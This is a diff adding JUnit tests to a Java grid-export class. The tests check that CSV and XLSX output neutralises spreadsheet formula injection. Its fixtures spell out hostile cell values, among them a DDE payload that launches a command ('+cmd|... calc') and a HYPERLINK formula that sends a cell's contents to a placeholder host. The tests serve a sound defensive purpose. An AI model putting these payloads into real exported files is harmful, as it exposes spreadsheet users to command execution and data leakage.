@@ -8,6 +8,8 @@ import java.text.Normalizer;
 import java.time.LocalDate;
 import java.util.Arrays;
 import java.util.List;
+import org.apache.poi.ss.usermodel.Cell;
+import org.apache.poi.ss.usermodel.CellType;
 import org.apache.poi.ss.usermodel.Sheet;
 import org.apache.poi.xssf.usermodel.XSSFWorkbook;
 import org.junit.jupiter.api.Test;
@@ -59,6 +61,46 @@ class GridExportTest {
             assertThat(sheet.getRow(3).getCell(3).getLocalDateTimeCellValue().toLocalDate()).isEqualTo(LocalDate.of(2026, 6, 2));
             assertThat(sheet.getRow(5).getCell(0).getStringCellValue()).isEqualTo("Tổng cộng");
             assertThat(sheet.getRow(5).getCell(1).getNumericCellValue()).isEqualTo(1241);
+        }
+    }
+
+    @Test
+    void csvTextCellsThatASpreadsheetWouldRunAreNeutralisedAndNumbersStayNumbers() {
+        List<Person> hostile = List.of(
+                new Person("+cmd|' /C calc'!A0", -5, -0.25, null),
+                new Person("=HYPERLINK(\"http://x\"&A2,\"Xem\")", 0, null, null),
+                new Person("@SUM(A1)", 1, null, null),
+                new Person("-Lê Văn Ba", 2, null, null),
+                new Person("\tTab", 3, null, null),
+                new Person("'=đã có dấu nháy", 4, null, null),
+                new Person("Lê =Văn+Ba", 5, null, null));
+        GridExport<Person> export = GridExport.<Person>create("Cán bộ").text("=Họ và tên", Person::name)
+                .integer("Số cán bộ", Person::cadres).percent("Tỷ lệ", Person::share);
+
+        byte[] csv = export.csv(hostile);
+
+        String text = new String(csv, 3, csv.length - 3, StandardCharsets.UTF_8);
+        assertThat(text.split("\r\n")).containsExactly(
+                "'=Họ và tên;Số cán bộ;Tỷ lệ",
+                "'+cmd|' /C calc'!A0;-5;-25,0",
+                "\"'=HYPERLINK(\"\"http://x\"\"&A2,\"\"Xem\"\")\";0;",
+                "'@SUM(A1);1;",
+                "'-Lê Văn Ba;2;",
+                "'\tTab;3;",
+                "''=đã có dấu nháy;4;",
+                "Lê =Văn+Ba;5;");
+    }
+
+    @Test
+    void xlsxWritesAFormulaLikeTextAsAString() throws Exception {
+        List<Person> hostile = List.of(new Person("=HYPERLINK(\"http://x\"&A2,\"Xem\")", -5, null, null));
+        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(export().xlsx(hostile)))) {
+            Cell name = workbook.getSheet("Cán bộ").getRow(3).getCell(0);
+            assertThat(name.getCellType()).isEqualTo(CellType.STRING);
+            assertThat(name.getStringCellValue()).isEqualTo("=HYPERLINK(\"http://x\"&A2,\"Xem\")");
+            Cell count = workbook.getSheet("Cán bộ").getRow(3).getCell(1);
+            assertThat(count.getCellType()).isEqualTo(CellType.NUMERIC);
+            assertThat(count.getNumericCellValue()).isEqualTo(-5);
         }
     }
 
